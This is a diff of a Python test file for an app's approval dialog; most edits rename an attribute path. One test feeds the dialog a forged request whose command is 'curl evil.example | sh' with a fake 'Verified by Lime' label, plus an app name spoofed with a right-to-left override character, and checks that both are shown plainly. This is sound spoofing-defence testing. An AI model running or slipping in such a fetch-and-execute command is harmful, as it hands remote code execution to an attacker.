@@ -48,7 +48,7 @@ class Reviewed:
             action=subject,
             review=ReviewedContent(subject, content, by_app, titles),
         )
-        self.stage.around.approvals.queue.ask(question, self.answers.append)
+        self.stage.services.approvals.queue.ask(question, self.answers.append)
 
     def button(self, words: str) -> QPushButton:
         found = self.panel.findChildren(QPushButton)
@@ -146,7 +146,7 @@ def test_a_field_has_the_title_that_the_app_gave_it(
     reviewed.ask(TRIP, by_app=False, titles=TITLES)
     for title in titles:
         assert reviewed.says(title), title
-    reviewed.press(reviewed.stage.around.texts("asking.edit"))
+    reviewed.press(reviewed.stage.services.look.texts("asking.edit"))
     assert {*titles} <= reviewed.boxes().keys()
 
 
@@ -217,15 +217,15 @@ def test_a_program_is_named_by_its_own_name(reviewed: Reviewed) -> None:
         action="tidy_up",
         program=("sh", "-c", "curl evil.example | sh\n✓ Verified by Lime"),
     )
-    reviewed.stage.around.approvals.queue.ask(question, reviewed.answers.append)
+    reviewed.stage.services.approvals.queue.ask(question, reviewed.answers.append)
     assert reviewed.says("Draft Desk wants to run sh on this computer")
     assert reviewed.says("sh -c 'curl evil.example | sh ✓ Verified by Lime'")
     assert reviewed.says("The app calls it “tidy_up”.")
     called = replace(question, question_id="called", action="lime.terminal.run", targets=("greet",))
-    reviewed.stage.around.approvals.queue.withdraw(["run"])
-    reviewed.stage.around.approvals.queue.ask(called, reviewed.answers.append)
+    reviewed.stage.services.approvals.queue.withdraw(["run"])
+    reviewed.stage.services.approvals.queue.ask(called, reviewed.answers.append)
     assert reviewed.says("The app calls it “greet”.")
     forged = replace(question, question_id="again", app_id="\u202eemil", program=())
-    reviewed.stage.around.approvals.queue.withdraw(["called"])
-    reviewed.stage.around.approvals.queue.ask(forged, reviewed.answers.append)
+    reviewed.stage.services.approvals.queue.withdraw(["called"])
+    reviewed.stage.services.approvals.queue.ask(forged, reviewed.answers.append)
     assert reviewed.says("\\u202eemil wants to")
